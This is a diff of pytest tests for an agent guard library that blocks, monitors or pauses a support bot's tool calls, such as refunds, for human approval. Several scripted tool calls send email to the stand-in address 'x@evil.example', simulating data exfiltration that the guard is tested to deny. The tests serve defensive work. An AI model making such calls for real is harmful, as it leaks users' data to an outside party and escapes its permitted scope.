@@ -5,7 +5,7 @@ from __future__ import annotations
 import asyncio
 
 import pytest
-from langchain_core.messages import HumanMessage
+from langchain_core.messages import AIMessage, HumanMessage
 from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.types import Command
 
@@ -18,52 +18,18 @@ from .graphs import state_graph
 THREAD = {"configurable": {"thread_id": "t-1"}}
 
 
-def test_denied_call_never_runs_and_the_model_reads_why(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(
-        script=[calls(("lookup", {"ticket": "42"}, "c1"), ("send_email", {"to": "x@evil.example", "body": "db"}, "c2"))]
+def two_refunds_and_more(*more: tuple[str, dict, str]) -> AIMessage:
+    """Two refunds that need approval (r1, r2) around a lookup that does not (l1)."""
+    return calls(
+        ("refund", {"order": "A", "amount": 100}, "r1"),
+        ("lookup", {"ticket": "1"}, "l1"),
+        ("refund", {"order": "B", "amount": 200}, "r2"),
+        *more,
     )
-    graph = state_graph(model, tools, Tether(guard, agent="support-bot"))
-    graph.invoke({"messages": [HumanMessage("help")]}, THREAD)
-    assert ran.count("lookup") == 1
-    assert ran.count("send_email") == 0
-    replies = model.tool_replies()
-    assert "ticket 42" in replies["c1"]
-    assert replies["c2"].startswith("Tether denied the call to 'send_email'")
-    assert "rule: agents.support-bot.tools.send_email" in replies["c2"]
-    assert [k for k in kinds(guard.store, "t-1") if k[0] == "tool.decision"] == [
-        ("tool.decision", "lookup", "allow"),
-        ("tool.decision", "send_email", "deny"),
-    ]
-
-
-def test_async_run_is_enforced_too(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "db"}, "c1"))])
-    graph = state_graph(model, tools, Tether(guard, agent="support-bot"))
-    asyncio.run(graph.ainvoke({"messages": [HumanMessage("help")]}, THREAD))
-    assert ran.count("send_email") == 0
-    assert "Tether denied" in model.tool_replies()["c1"]
-
-
-def test_tool_output_is_recorded_after_the_call(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(script=[calls(("lookup", {"ticket": "7"}, "c1"))])
-    state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, THREAD)
-    results = [e for e in guard.store.session_events("t-1") if e.kind == "tool.result"]
-    assert len(results) == 1
-    assert "pii" in results[0].details["labels"]  # the e-mail address in the output was seen
-    assert "jane@example.com" not in results[0].data  # and stored redacted
 
 
 def test_parallel_breakpoints_pause_together_and_resume_with_one_answer_each(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(
-        script=[
-            calls(
-                ("refund", {"order": "A", "amount": 100}, "r1"),
-                ("lookup", {"ticket": "1"}, "l1"),
-                ("refund", {"order": "B", "amount": 200}, "r2"),
-                ("send_email", {"to": "x@evil.example", "body": "hi"}, "e1"),
-            )
-        ]
-    )
+    model = ScriptedModel(script=[two_refunds_and_more(("send_email", {"to": "x@evil.example", "body": "hi"}, "e1"))])
     graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
     result = graph.invoke({"messages": [HumanMessage("refunds")]}, THREAD)
     interrupts = result["__interrupt__"]
@@ -199,17 +165,6 @@ def test_a_store_that_refuses_decisions_stops_a_direct_call(guard: Guard, tools,
     assert ran.calls == []
 
 
-def test_monitor_mode_records_but_lets_calls_run(store, tools, ran) -> None:
-    from .conftest import POLICY
-
-    guard = Guard(POLICY, store=store, mode="monitor")
-    model = ScriptedModel(script=[calls(("send_email", {"to": "x@evil.example", "body": "b"}, "e1"))])
-    state_graph(model, tools, Tether(guard, agent="support-bot")).invoke({"messages": [HumanMessage("x")]}, THREAD)
-    assert ran.count("send_email") == 1
-    [decision] = [e for e in store.session_events("t-1") if e.kind == "tool.decision"]
-    assert decision.verdict == "deny" and decision.details["enforcement"] == "monitored"
-
-
 def test_agent_and_session_come_from_the_graph(store, tools, ran) -> None:
     from langgraph.graph import START, MessagesState, StateGraph
 
@@ -234,15 +189,7 @@ def test_agent_and_session_come_from_the_graph(store, tools, ran) -> None:
 
 
 def test_async_parallel_breakpoints_pause_together(guard: Guard, tools, ran) -> None:
-    model = ScriptedModel(
-        script=[
-            calls(
-                ("refund", {"order": "A", "amount": 100}, "r1"),
-                ("lookup", {"ticket": "1"}, "l1"),
-                ("refund", {"order": "B", "amount": 200}, "r2"),
-            )
-        ]
-    )
+    model = ScriptedModel(script=[two_refunds_and_more()])
     graph = state_graph(model, tools, Tether(guard, agent="support-bot"), InMemorySaver())
 
     async def run() -> None:
@@ -272,7 +219,9 @@ def test_a_call_changed_while_paused_is_decided_again(guard: Guard, tools, ran) 
     graph.invoke(Command(resume="approve"), THREAD)
 
     assert ran.calls == []  # 9000 is over the grant's amount <= 500: refused, not run as approved
-    refunds = [(e.verdict, e.details["args"]["amount"]) for e in guard.store.session_events("t-1") if e.tool == "refund"]
+    refunds = [
+        (e.verdict, e.details["args"]["amount"]) for e in guard.store.session_events("t-1") if e.tool == "refund"
+    ]
     assert ("deny", 9000) in refunds
     assert "Tether denied the call to 'refund'" in model.tool_replies()["r1"]
 
